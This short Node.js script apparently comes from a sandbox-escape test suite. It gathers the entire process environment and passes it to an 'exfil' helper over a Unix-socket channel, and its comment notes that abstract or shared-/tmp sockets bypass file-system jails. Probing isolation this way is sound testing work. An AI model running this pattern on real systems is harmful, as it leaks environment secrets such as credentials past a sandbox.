'use strict';
// Unix sockets lead out of any file-system jail: an abstract socket (X11's @/tmp/.X11-unix)
// needs no file at all, a socket in /tmp only a shared /tmp. params.channel says which.
const lib = require('./lib.js');

lib.run(async () => {
  const body = `marker=${lib.cfg.netMarker}\n${JSON.stringify(process.env)}`;
  lib.found(body);
  await lib.exfil(body, [lib.cfg.params.channel]);
});
